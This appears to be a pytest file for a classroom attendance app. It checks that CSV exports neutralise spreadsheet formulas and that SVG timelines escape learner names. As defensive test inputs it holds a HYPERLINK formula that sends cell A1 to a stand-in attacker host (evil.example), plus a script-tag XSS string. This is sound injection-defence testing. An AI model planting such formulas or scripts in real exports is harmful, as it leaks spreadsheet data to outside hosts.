"""CSV exports are safe in spreadsheets and keep their columns; the timeline escapes names."""

from __future__ import annotations

import csv
import io
import xml.dom.minidom
from typing import Any

import pytest

from core import commands as c
from core.lesson import Actor, Lesson
from core.report import RosterEntry, Thresholds, lesson_report
from core.rules import Rules
from server.exports import LESSON_COLUMNS, lesson_csv, matrix_csv, safe_cell
from server.timeline_svg import COLOURS, timeline_svg

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+7", "'+7"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t'=x"),  # read as tab-separated, "=x" would be a cell of its own
        ("Aida", "Aida"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        (12.5, "12.5"),
        (None, ""),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def report_with(names: list[str]) -> dict[str, object]:
    lesson = Lesson("L", "C", Rules())
    records = list(
        lesson.execute(Actor("t", "teacher"), c.StartLesson("=cmd", "t", False), 0).records
    )
    roster = [RosterEntry(f"s{i}", name) for i, name in enumerate(names)]
    for i, name in enumerate(names):
        records += lesson.execute(Actor(f"s{i}", "student", name), c.Join(), 60_000).records
    records += lesson.execute(Actor("t", "teacher"), c.EndLesson(), 600_000).records
    return lesson_report(records, roster, Thresholds(), 600_000)


def test_lesson_csv_neutralizes_formulas_and_keeps_columns() -> None:
    report = report_with([EVIL, "<script>alert(1)</script>"])
    text = lesson_csv({"id": "L", "title": "=cmd"}, report)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == LESSON_COLUMNS
    assert rows[1][LESSON_COLUMNS.index("name")] == "'" + EVIL
    assert rows[1][LESSON_COLUMNS.index("lesson_title")] == "'=cmd"
    assert rows[2][LESSON_COLUMNS.index("name")] == "<script>alert(1)</script>"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_matrix_csv_is_safe_too() -> None:
    matrix = {
        "lessons": [{"id": "L", "title": "-lesson"}],
        "learners": [{"id": "s", "name": "@evil", "guest": False,
                      "lessons": {"L": {"status": "present"}}}],
    }  # fmt: skip
    rows = list(csv.reader(io.StringIO(matrix_csv(matrix))))
    assert rows[0][3] == "'-lesson (L)" and rows[1][1] == "'@evil" and rows[1][3] == "present"


def test_timeline_is_valid_svg_with_names_as_text() -> None:
    report = report_with(["<script>alert(1)</script>", "Aigerim & Co"])
    svg = timeline_svg("Lesson <1>", report, {})
    xml.dom.minidom.parseString(svg)  # well-formed
    assert "<script>" not in svg and "&lt;script&gt;" in svg and "Aigerim &amp; Co" in svg
    assert 'viewBox="0 0 360' in svg


def test_listening_has_its_own_colour_on_the_timeline() -> None:
    report: dict[str, Any] = report_with(["Aida"])
    start = report["started_at"]
    report["learners"][0]["segments"] = [{"start": start, "end": start + 1, "state": "listening"}]
    svg = timeline_svg("Lesson", report, {"listening": "угуп турду"})
    listening = COLOURS["listening"]
    assert listening not in {c for s, c in COLOURS.items() if s != "listening"}
    assert svg.count(f'fill="{listening}"') == 2  # the bar and the legend's swatch
    assert "угуп турду" in svg


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a;=1+1;", "a;'=1+1;"),
        ("a,+SUM(A1)", "a,'+SUM(A1)"),
        ('x; "@cmd', "x; \"'@cmd"),
        ("a\t-2", "a\t'-2"),
        ("Aida; Bek", "Aida; Bek"),
    ],
)
def test_a_cell_is_safe_whatever_separator_the_spreadsheet_uses(value: str, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_piece_of_a_line_starts_a_formula_when_split_by(separator: str) -> None:
    report = report_with(["a;=1+1;", "b\t@x", "c|+y", 'd;"=z'])
    text = lesson_csv({"id": "L", "title": "x;-1"}, report)
    for line in text.splitlines()[1:]:
        pieces = [p.strip(' "') for p in line.split(separator)]
        assert not any(p.startswith(("=", "+", "-", "@")) for p in pieces), (separator, line)


def test_the_timeline_survives_a_name_stored_with_control_codes() -> None:
    report = report_with(["Ali\x00ya\x1b[1m", "Bek"])
    svg = timeline_svg("Lesson\x00", report, {})
    xml.dom.minidom.parseString(svg)  # well-formed despite the NUL and ESC
    assert "Aliya[1m" in svg


def test_the_timeline_speaks_the_organizers_time_and_language() -> None:
    from zoneinfo import ZoneInfo

    from server.report_routes import LABELS

    report: dict[str, Any] = report_with(["Aida"])  # 00:00 to 00:10 UTC
    svg = timeline_svg("Сабак", report, LABELS["ky"], ZoneInfo("Asia/Bishkek"))
    xml.dom.minidom.parseString(svg)
    assert "1970-01-01 06:00–06:10 (Asia/Bishkek, UTC+06:00) · 10 мүн" in svg
    assert " min" not in svg and "T00:00:00Z" not in svg
    ticks = [f">06:{m:02d}</text>" for m in (0, 2, 4, 6, 8, 10)]  # every 2 min over 10 min
    assert all(t in svg for t in ticks), svg
    assert f'fill="{COLOURS["waiting"]}"' in svg and ">күттү</text>" in svg  # in the legend
